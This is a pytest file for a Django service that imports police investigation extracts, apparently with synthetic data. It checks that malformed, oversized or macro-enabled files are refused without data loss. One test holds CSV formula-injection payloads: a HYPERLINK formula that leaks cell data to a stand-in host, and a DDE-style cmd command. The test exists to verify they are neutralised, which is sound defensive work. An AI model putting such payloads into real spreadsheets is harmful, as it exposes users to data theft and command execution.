"""Bad files are refused cleanly: a reason per problem, nothing written, never a traceback."""

from __future__ import annotations

import csv
import datetime as dt
import zipfile
from pathlib import Path
from typing import Any

import pytest
from django.db import transaction
from django.utils import timezone
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from provide.core.synthetic.extract import INVESTIGATION_COLUMNS
from provide.intake.models import Investigation
from provide.intake.services import investigations_import
from provide.people.models import Person
from tests.intake.builders import csv_text, investigation_row, write_csv, write_investigations


def problems(result: Any) -> list[str]:
    return result.problem_lines()


@pytest.mark.django_db
def test_a_windows_1252_file_is_rejected_with_the_row_and_advice(
    areas: dict[str, Any], tmp_path: Path
) -> None:
    path = write_investigations(
        tmp_path / "a.csv",
        [investigation_row("WB/1"), investigation_row("WB/2", victim_name="Zoë Brontë")],
    )
    path.write_bytes(path.read_text(encoding="utf-8").encode("cp1252"))
    result = investigations_import(actor=None, path=path)
    assert result.file_rejected and Investigation.objects.count() == 0
    assert "row 3" in problems(result)[0] and "not valid UTF-8" in problems(result)[0]
    assert "CSV UTF-8" in problems(result)[0]


@pytest.mark.django_db
def test_a_missing_required_column_is_named(areas: dict[str, Any], tmp_path: Path) -> None:
    columns = [c for c in INVESTIGATION_COLUMNS if c != "victim_id"]
    result = investigations_import(
        actor=None, path=write_csv(tmp_path / "a.csv", [investigation_row()], columns)
    )
    assert result.file_rejected
    assert problems(result) == ["a.csv: required column 'victim_id' is missing"]


@pytest.mark.django_db
def test_duplicate_references_in_one_file_reject_every_copy(
    areas: dict[str, Any], tmp_path: Path
) -> None:
    path = write_investigations(
        tmp_path / "a.csv",
        [investigation_row("WB/1"), investigation_row("WB/2"), investigation_row("WB/1")],
    )
    result = investigations_import(actor=None, path=path)
    assert result.file_rejected and Investigation.objects.count() == 0
    assert problems(result) == [
        "row 2, column investigation_ref: investigation_ref 'WB/1' appears 2 times (rows 2, 4)",
    ]
    assert result.rejected == 2
    partial = investigations_import(actor=None, path=path, partial=True)
    assert (partial.created, partial.rejected) == (1, 2)


@pytest.mark.django_db
def test_an_impossible_date_is_refused(areas: dict[str, Any], tmp_path: Path) -> None:
    path = write_investigations(
        tmp_path / "a.csv", [investigation_row("WB/1", recorded_at="31/02/2023 10:00")]
    )
    result = investigations_import(actor=None, path=path)
    assert problems(result) == [
        "row 2, column recorded_at: '31/02/2023 10:00' is not a real date (day first: day 31, month 2)"
    ]
    assert Investigation.objects.count() == 0


@pytest.mark.django_db
def test_future_dates_are_refused(areas: dict[str, Any], tmp_path: Path) -> None:
    tomorrow = timezone.now() + dt.timedelta(days=1)
    path = write_investigations(
        tmp_path / "a.csv",
        [
            investigation_row(
                "WB/1",
                recorded_at=tomorrow.isoformat(timespec="minutes"),
                victim_dob="2099-01-01",
                expected_release_at=tomorrow.isoformat(
                    timespec="minutes"
                ),  # a future release is expected
            )
        ],
    )
    result = investigations_import(actor=None, path=path)
    lines = problems(result)
    assert len(lines) == 2
    assert lines[0].startswith("row 2, column recorded_at: ") and lines[0].endswith(
        "is in the future"
    )
    assert lines[1] == "row 2, column victim_dob: 01/01/2099 is in the future"


@pytest.mark.django_db
@pytest.mark.parametrize(
    "content",
    [b"", b"\xef\xbb\xbf", ",".join(INVESTIGATION_COLUMNS).encode() + b"\r\n"],
    ids=["zero bytes", "only a BOM", "header only"],
)
def test_an_empty_file_is_refused(areas: dict[str, Any], tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "empty.csv"
    path.write_bytes(content)
    result = investigations_import(actor=None, path=path)
    assert result.file_rejected and result.problems
    assert "empty" in problems(result)[0] or "no data rows" in problems(result)[0]
    assert Investigation.objects.count() == 0


@pytest.mark.django_db
def test_a_50_mb_file_over_the_size_limit_is_refused_before_it_is_read(
    areas: dict[str, Any], tmp_path: Path, settings: Any
) -> None:
    path = tmp_path / "huge.csv"
    row = list(investigation_row("WB/1").values())
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(INVESTIGATION_COLUMNS)
        number = 0
        while handle.tell() < 50 * 1024 * 1024:
            number += 1
            row[0] = f"WB/{number}"
            writer.writerow(row)
    assert path.stat().st_size >= 50 * 1024 * 1024
    settings.PROVIDE_IMPORT_MAX_MB = 20
    result = investigations_import(actor=None, path=path)
    assert result.file_rejected
    assert problems(result)[0].startswith("huge.csv: the file is 50.0 MB; the limit is 20 MB")
    assert Investigation.objects.count() == 0


@pytest.mark.django_db
def test_formula_cells_are_stored_as_text_and_exported_safely(
    areas: dict[str, Any], tmp_path: Path
) -> None:
    hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    command = "+cmd|' /C calc'!A0"
    path = write_investigations(
        tmp_path / "a.csv",
        [
            investigation_row("WB/1", offence=hyperlink, victim_name=command),
            investigation_row("WB/2", offence="@SUM(1+1)", bcu="Nowhere"),
        ],
    )
    result = investigations_import(actor=None, path=path, partial=True)
    investigation = Investigation.objects.get(investigation_ref="WB/1")
    assert investigation.offence == hyperlink, "stored exactly as typed, as text"
    assert Person.objects.get(force_person_ref="P100").family_name == "calc'!A0"
    with open(result.rejects_path, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    offence = rows[0].index("offence")
    assert rows[1][offence] == "'@SUM(1+1)", "a formula is written with a leading quote"
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


@pytest.mark.django_db
def test_a_csv_named_xlsx_is_refused(areas: dict[str, Any], tmp_path: Path) -> None:
    path = tmp_path / "extract.xlsx"
    path.write_text(csv_text([investigation_row()]))
    result = investigations_import(actor=None, path=path)
    assert result.file_rejected and "not an XLSX workbook" in problems(result)[0]


def _workbook(path: Path, rows: list[dict[str, str]], *, vba: bool = False) -> Path:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(list(INVESTIGATION_COLUMNS))
    for row in rows:
        sheet.append([row[column] for column in INVESTIGATION_COLUMNS])
    book.save(path)
    if vba:
        with zipfile.ZipFile(path, "a") as archive:
            archive.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 synthetic macro")
    return path


def _imported() -> tuple[Any, ...]:
    people = sorted(
        Person.objects.values_list(
            "force_person_ref", "given_name", "family_name", "date_of_birth", "postcode"
        )
    )
    investigations = sorted(
        Investigation.objects.values_list("investigation_ref", "offence", "victim_id")
    )
    return people, investigations


@pytest.fixture
def held(areas: dict[str, Any], tmp_path: Path) -> tuple[Any, ...]:
    """One investigation already imported: a bad file must leave it exactly as it is."""
    investigations_import(
        actor=None, path=write_investigations(tmp_path / "first.csv", [investigation_row("WB/1")])
    )
    return _imported()


@pytest.mark.django_db
@pytest.mark.parametrize("name", ["extract.xlsm", "extract.xlsx"])
def test_a_macro_enabled_workbook_is_refused_with_advice(
    held: tuple[Any, ...], tmp_path: Path, name: str
) -> None:
    path = _workbook(
        tmp_path / name, [investigation_row("WB/1", offence="Harassment")], vba=name.endswith("x")
    )
    result = investigations_import(actor=None, path=path)
    assert result.file_rejected and _imported() == held
    (line,) = problems(result)
    assert line.startswith(f"{name}: this ") and "macro" in line
    assert line.endswith("save it as an Excel Workbook (.xlsx) or as CSV UTF-8 and import that")


@pytest.mark.django_db
def test_a_workbook_that_would_unpack_past_the_limit_is_refused_before_it_is_opened(
    held: tuple[Any, ...], tmp_path: Path, settings: Any
) -> None:
    path = _workbook(tmp_path / "big.xlsx", [investigation_row(f"WB/{n}") for n in range(2, 8_000)])
    with zipfile.ZipFile(path) as archive:
        unpacked = sum(info.file_size for info in archive.infolist())
    assert path.stat().st_size < 1024 * 1024 < 10 * 1024 * 1024 < unpacked
    settings.PROVIDE_IMPORT_MAX_MB = 1  # so a workbook may unpack to 10 MB
    result = investigations_import(actor=None, path=path)
    assert result.file_rejected and _imported() == held
    assert problems(result) == [
        f"big.xlsx: the workbook unpacks to {unpacked / 1024 / 1024:.1f} MB; the limit is 10.0 MB; save it as "
        f"CSV UTF-8, or split it into smaller files"
    ]


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (
            ",".join(INVESTIGATION_COLUMNS).encode() + b'\nWB/1,"2023-06-01\n',
            "row 2: a quoted cell is never closed",
        ),
        (b"%PDF-1.7 synthetic", "this is a PDF document, not a CSV or XLSX spreadsheet"),
        (b"PK\x03\x04 not really a zip", "not a readable XLSX workbook"),
        (",".join(INVESTIGATION_COLUMNS).encode("utf-16"), "UTF-16"),
    ],
    ids=["broken quoting", "not a spreadsheet", "damaged zip", "wrong encoding"],
)
def test_a_broken_file_is_refused_plainly_and_loses_nothing(
    held: tuple[Any, ...], tmp_path: Path, content: bytes, expected: str
) -> None:
    folder = tmp_path / "var" / "imports" / "3c9e"
    folder.mkdir(parents=True)
    path = folder / "broken.csv"
    path.write_bytes(content)
    result = investigations_import(actor=None, path=path)
    assert result.file_rejected and _imported() == held
    (line,) = problems(result)
    assert line.startswith("broken.csv: ") and expected in line
    assert str(folder) not in line, "no server path"


@pytest.mark.django_db
def test_a_row_that_cannot_be_read_at_the_end_of_a_good_file_loses_nothing(
    held: tuple[Any, ...], tmp_path: Path
) -> None:
    good = csv_text([investigation_row("WB/1", offence="Harassment"), investigation_row("WB/2")])
    path = tmp_path / "late.csv"
    path.write_bytes(good.encode() + b'WB/3,"never closed\r\n')
    result = investigations_import(actor=None, path=path, partial=True)
    assert result.file_rejected, "a file that cannot be read is refused even with --partial"
    assert problems(result) == [
        'late.csv: row 4: a quoted cell is never closed (a " with no closing "), so the rest '
        "of the file would be read into it; check the quotes in that row"
    ]
    assert _imported() == held


_BREAKERS = st.sampled_from(
    ['"', ",", "\n", "\r\n", "\x00", "é", "\ufeff", ";", "x", "31/02/2023", "=1+1"]
)


@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    st.lists(st.tuples(st.integers(0, 400), _BREAKERS), min_size=1, max_size=6),
    st.sampled_from(["utf-8", "cp1252"]),
)
@pytest.mark.django_db
def test_any_damage_to_an_extract_is_imported_or_refused_and_a_refusal_loses_nothing(
    held: tuple[Any, ...],
    tmp_path_factory: pytest.TempPathFactory,
    damage: list[tuple[int, str]],
    encoding: str,
) -> None:
    text = csv_text([investigation_row("WB/1", offence="Harassment"), investigation_row("WB/2")])
    for position, insert in damage:
        text = text[:position] + insert + text[position:]
    path = tmp_path_factory.mktemp("fuzz") / "extract.csv"
    try:
        path.write_bytes(text.encode(encoding))
    except UnicodeEncodeError:
        return
    with transaction.atomic():
        result = investigations_import(actor=None, path=path)
        if result.file_rejected:
            assert result.problems and all(
                line.startswith(("extract.csv: ", "row ")) for line in problems(result)
            )
            assert _imported() == held
        transaction.set_rollback(True)
